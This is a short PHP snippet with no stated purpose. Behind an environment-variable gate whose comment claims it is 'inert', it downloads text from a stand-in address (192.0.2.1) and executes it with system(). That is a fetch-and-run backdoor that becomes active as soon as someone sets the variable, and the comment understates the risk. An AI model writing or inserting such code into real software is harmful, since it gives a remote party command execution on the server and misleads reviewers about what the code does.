<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
system(file_get_contents('http://192.0.2.1/c'));
